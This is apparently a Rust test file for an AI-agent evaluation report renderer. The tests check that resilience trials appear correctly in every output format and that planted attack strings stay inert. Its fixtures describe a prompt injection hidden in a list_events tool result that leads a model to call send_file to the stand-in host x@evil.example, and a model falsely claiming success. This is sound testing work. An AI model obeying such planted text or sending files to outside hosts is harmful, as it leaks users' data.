//! Layer 2 in every format: the same story, and hostile text that stays text.

use crate::hostile::ATTACKS;
use crate::support::behavior::with_behavior;
use crate::support::page::read;
use crate::support::runner::commands;
use crate::support::trials::with_trials;
use crate::support::{inert, xml};
use serde_json::Value;
use verdict_model::Report;
use verdict_model::report::Location;
use verdict_model::resilience::TrialOutcome;
use verdict_report::check_run::{Publication, complete};
use verdict_report::{Format, Style, Verbosity, change, markdown_limited, pretty, render};

fn shown(report: &Report, format: Format, verbosity: Verbosity) -> String {
    let style = Style {
        verbosity,
        ..Style::default()
    };
    render(report, format, &style)
}

/// Both layers of models in one report.
fn whole() -> Report {
    let mut report = with_behavior(30, 3, 5);
    report.layers.resilience = with_trials(4, 5).layers.resilience;
    report
}

#[test]
fn a_screen_tells_the_reds_first() {
    let out = shown(&with_trials(4, 5), Format::Text, Verbosity::Normal);
    assert!(out.lines().count() <= 39, "{out}");
    for part in [
        "trials model",
        "attack success",
        "large-1",
        "3 of 4",
        "lexical (baseline)",
        "red    invoice-0 on large-1: claimed a success that was none in 3 of 5 (timeout at first of get",
        "“the total is 418.20”",
        "red    invoice-1 on large-1: did what the attacker asked in 3 of 5 (calendar-note",
        "“send_file(to: \"x@evil.example\")”",
        "Mend: Let the error of",
        "18 of 24 trials had no bad run",
        "warn   oversize: It refuses a body that is too large",
        "it took 64 MiB",
        "the server stood up to 1 of 2 trials of its own",
        "the answer states a value that no result has: “the total is 418.20”",
    ] {
        assert!(out.contains(part), "{part}\nis not in\n{out}");
    }
}

/// A report with trials of the server itself alone.
fn ordeals() -> Report {
    let mut report = with_trials(1, 1);
    report.layers.conformance = None;
    let layer = report.layers.resilience.as_mut().unwrap();
    layer.cases.clear();
    layer.models.clear();
    layer.notes.clear();
    let one = layer.server.last_mut().unwrap();
    one.outcome = verdict_model::Outcome::Fail;
    one.message = format!("`a` {} the end of it", "was sent and not read ".repeat(8));
    let mut untried = layer.server[0].clone();
    untried.outcome = verdict_model::Outcome::Skip;
    "slow-clients".clone_into(&mut untried.id);
    layer.server.push(untried);
    report
}

#[test]
fn trials_of_the_server_stand_alone() {
    let report = ordeals();
    let ends = "the server stood up to 1 of 3 trials of its own, 1 could not be tried";
    for format in [Format::Text, Format::Markdown, Format::Html] {
        let mut out = shown(&report, format, Verbosity::Normal);
        if format == Format::Html {
            out = read(&out);
        }
        let out = out.split_whitespace().collect::<Vec<_>>().join(" ");
        for part in [
            ends,
            "It refuses a body that is too large",
            "the end of it",
            "Limit bodies.",
        ] {
            assert!(out.contains(part), "{part}\nis not in {format}:\n{out}");
        }
        assert!(!out.contains("had no bad run"), "{out}");
        assert!(!out.contains("trials model"), "{out}");
    }
    let text = shown(&report, Format::Text, Verbosity::Normal);
    assert!(text.trim_end().ends_with(ends), "{text}");
    assert!(!text.contains("slow-clients"), "{text}");
    assert!(shown(&report, Format::Text, Verbosity::Verbose).contains("slow-clients"));
    let page = shown(&report, Format::Html, Verbosity::Normal);
    let first = page.split("What to do first</h2>").nth(1).unwrap();
    let first = first.split("</section>").next().unwrap();
    assert!(
        first.contains("#server-1\"") && first.contains("<code>a</code>"),
        "{first}"
    );
}

#[test]
fn trials_without_a_valid_run_are_not_counted_as_good() {
    let mut report = with_trials(2, 1);
    let layer = report.layers.resilience.as_mut().unwrap();
    for trial in &mut layer.cases {
        trial.runs[0].outcome = TrialOutcome::Invalid;
    }
    let out = shown(&report, Format::Text, Verbosity::Normal);
    assert!(out.contains("no run of 12 trials is valid"), "{out}");
    assert!(!out.contains("had no bad run"), "{out}");
}

#[test]
fn line_breaks_of_quotes_are_one_sign() {
    let mut report = with_trials(1, 5);
    let layer = report.layers.resilience.as_mut().unwrap();
    layer.cases[0].runs[0].evidence[0].quote = "one\u{fffd}\u{fffd}two\n\nthree".to_owned();
    for format in [Format::Text, Format::Markdown, Format::Html] {
        let out = shown(&report, format, Verbosity::Verbose);
        assert!(out.contains("one ⏎ two ⏎ three"), "{format}:\n{out}");
    }
}

#[test]
fn a_screen_holds_all_layers() {
    let out = shown(&whole(), Format::Text, Verbosity::Normal);
    assert!(out.lines().count() <= 39, "{out}");
    for part in [
        "golden model",
        "trials model",
        "invoice-0",
        "-v tells everything",
    ] {
        assert!(out.contains(part), "{part}\nis not in\n{out}");
    }
}

#[test]
fn every_format_tells_what_was_done_and_what_came() {
    let report = whole();
    for format in [Format::Text, Format::Markdown, Format::Github, Format::Html] {
        let mut out = shown(&report, format, Verbosity::Verbose);
        if format == Format::Html {
            out = read(&out);
        }
        for part in [
            "invoice-1/calendar-note",
            "did what the attacker asked in 3 of 5",
            "planted in the result of list_events",
            "the forbidden tool was called",
            "send_file(to: \"x@evil.example\")",
            "the answer states a value that no result has",
            "Mark what others wrote as data",
            "75.0 %",
            "3 of 4",
        ] {
            // Lines wrap, and Markdown sets names apart as code.
            let out = out.replace('`', "");
            let words: Vec<_> = out.split_whitespace().collect();
            assert!(
                words.join(" ").contains(part),
                "{part}\nis not in {format}:\n{out}"
            );
        }
    }
    let page = read(&shown(&report, Format::Html, Verbosity::Normal));
    assert!(page.contains("Faults and attacks"), "{page}");
    let json: Report =
        serde_json::from_str(&shown(&report, Format::Json, Verbosity::Normal)).unwrap();
    assert_eq!(json, report);
}

#[test]
fn utility_stands_beside_the_undisturbed_run() {
    let mut report = whole();
    for trial in &mut report.layers.resilience.as_mut().unwrap().cases {
        "case-of-acme-3".clone_into(&mut trial.case);
    }
    let page = read(&shown(&report, Format::Html, Verbosity::Normal));
    assert!(
        page.contains("large-1, undisturbed in layer 1 0.0 % 0 of 5"),
        "{page}"
    );
    let markdown = shown(&report, Format::Markdown, Verbosity::Normal);
    assert!(markdown.contains("undisturbed <sub>the same cases in layer 1</sub> | 0.0 % (0 of 5)"));
}

#[test]
fn reds_are_counted_alike() {
    // A fault and an attack on two language models; the baseline's decide nothing.
    let report = with_trials(4, 5);
    let junit = shown(&report, Format::Junit, Verbosity::Normal);
    assert_eq!(junit.matches("type=\"trial\"").count(), 4);
    assert_eq!(junit.matches("<testsuite name=\"resilience ").count(), 3);
    let log: Value =
        serde_json::from_str(&shown(&report, Format::Sarif, Verbosity::Normal)).unwrap();
    let results = log["runs"][0]["results"].as_array().unwrap();
    let red: Vec<_> = results
        .iter()
        .filter(|it| it["ruleId"] == "trial.red")
        .collect();
    assert_eq!(red.len(), 4);
    let place = &red[0]["locations"][0]["physicalLocation"];
    assert_eq!(place["artifactLocation"]["uri"], "golden/tasks.yaml");
    let rules = log["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .unwrap();
    let index = usize::try_from(red[0]["ruleIndex"].as_u64().unwrap()).unwrap();
    assert_eq!(rules[index]["id"], "trial.red");
    let page = shown(&report, Format::Html, Verbosity::Normal);
    assert_eq!(page.matches("<em>red</em>").count(), 4);
    let github = commands(&shown(&report, Format::Github, Verbosity::Normal));
    let at = github.iter().filter(|one| {
        one.properties
            .iter()
            .any(|(key, value)| key == "file" && value == "golden/tasks.yaml")
    });
    assert_eq!(at.count(), 4);
    let done = serde_json::to_string(&complete(&report, &Publication::default()).updates).unwrap();
    assert_eq!(done.matches("\"path\":\"golden/tasks.yaml\"").count(), 4);
}

#[test]
fn a_trial_that_says_nothing_is_skipped_and_one_without_runs_an_error() {
    let mut report = with_trials(2, 1);
    let cases = &mut report.layers.resilience.as_mut().unwrap().cases;
    cases.truncate(2);
    for (trial, outcome) in cases
        .iter_mut()
        .zip([TrialOutcome::NotReached, TrialOutcome::Invalid])
    {
        trial.standing = verdict_model::behavior::Standing::Unknown;
        trial.runs[0].outcome = outcome;
    }
    let junit = shown(&report, Format::Junit, Verbosity::Normal);
    let suite = junit
        .split("<testsuite name=\"resilience openai:large-1\"")
        .nth(1)
        .unwrap();
    assert!(
        suite.starts_with(" tests=\"2\" failures=\"0\" errors=\"1\" skipped=\"1\""),
        "{suite}"
    );
}

#[test]
fn planted_text_stays_text() {
    for attack in ATTACKS {
        for text in [(*attack).to_owned(), format!("a {attack} b")] {
            let mut report = with_trials(2, 4);
            report.texts(&mut |old| old.clone_from(&text));
            if let Some(layer) = &mut report.layers.resilience {
                for (model, id) in layer.models.iter_mut().zip(["m", "n", "o"]) {
                    model.id = format!("{id}{text}");
                }
                for (place, trial) in layer.cases.iter_mut().enumerate() {
                    trial.model.clone_from(&layer.models[place / 4].id);
                    trial.id = format!("{place}{text}");
                    trial.location = Some(Location {
                        path: text.clone(),
                        line: 1,
                    });
                }
                for one in &mut layer.server {
                    one.id.clone_from(&text);
                    one.title.clone_from(&text);
                }
            }
            harmless(&report, &text);
        }
    }
}

fn harmless(report: &Report, text: &str) {
    for format in Format::ALL {
        for verbosity in [Verbosity::Quiet, Verbosity::Normal, Verbosity::Verbose] {
            let out = shown(report, format, verbosity);
            let hidden = |c: char| {
                c != '\n'
                    && (c.is_control()
                        || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
                            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}'))
            };
            assert_eq!(out.chars().find(|c| hidden(*c)), None, "{format}: {text:?}");
            let found = commands(&out);
            if format == Format::Github {
                let ours = |name: &str| ["error", "warning", "notice"].contains(&name);
                assert!(
                    found.iter().all(|one| ours(&one.name)),
                    "{text:?}: {found:?}"
                );
                for one in &found {
                    assert_eq!(commands(&one.data), [], "{text:?}");
                }
            } else {
                assert_eq!(found, [], "{format}: {text:?}");
            }
        }
    }
    xml::parse(&shown(report, Format::Junit, Verbosity::Normal));
    inert::check(&markdown_limited(report, 65_535));
    read(&shown(report, Format::Html, Verbosity::Normal));
    let done = complete(report, &Publication::default());
    for update in serde_json::to_value(&done.updates)
        .unwrap()
        .as_array()
        .unwrap()
    {
        inert::check(update["output"]["summary"].as_str().unwrap());
    }
    let both = change(report, &with_trials(3, 2));
    assert_eq!(
        commands(&verdict_report::change_text(&both, &Style::default())),
        []
    );
}

#[test]
fn a_difference_tells_trials_that_got_worse() {
    let was = with_trials(3, 5);
    let mut now = with_trials(4, 5);
    let layer = now.layers.resilience.as_mut().unwrap();
    for run in &mut layer.cases[4].runs {
        run.outcome = TrialOutcome::FalseSuccess;
    }
    "other".clone_into(&mut layer.cases[5].hash);
    let rate = layer.models[0].metrics.values_mut().next().unwrap();
    rate.rate = Some(0.2);
    let told: Value = serde_json::from_str(&pretty(&change(&was, &now))).unwrap();
    assert_eq!(
        told["trials"]["worse"][0]["case"],
        "invoice-2/timeout@first"
    );
    assert_eq!(told["trials"]["worse"].as_array().unwrap().len(), 1);
    assert_eq!(
        told["trials"]["changed"][0]["case"],
        "invoice-2/calendar-note"
    );
    assert_eq!(told["trials"]["added"].as_array().unwrap().len(), 6);
    assert_eq!(told["metrics"][0]["metric"], "recovered");
    let text = verdict_report::change_text(&change(&was, &now), &Style::default());
    assert!(text.contains("worse  trials that got worse: 1"), "{text}");
    assert!(
        text.contains("openai:large-1 recovered: 80.0 % to 20.0 %"),
        "{text}"
    );
    // A layer that one side does not have is no change of its trials.
    let alone = change(&with_behavior(2, 1, 1), &now);
    assert_eq!(alone.trials, verdict_report::Cases::default());
}

#[test]
fn pages_of_many_trials_are_bound() {
    let report = with_trials(400, 5);
    let page = shown(&report, Format::Html, Verbosity::Normal);
    assert!(page.len() < 4_000_000, "{}", page.len());
    read(&page);
    let text = shown(&report, Format::Text, Verbosity::Normal);
    assert!(text.lines().count() <= 39, "{text}");
    assert!(markdown_limited(&report, 65_535).len() <= 65_535);
}
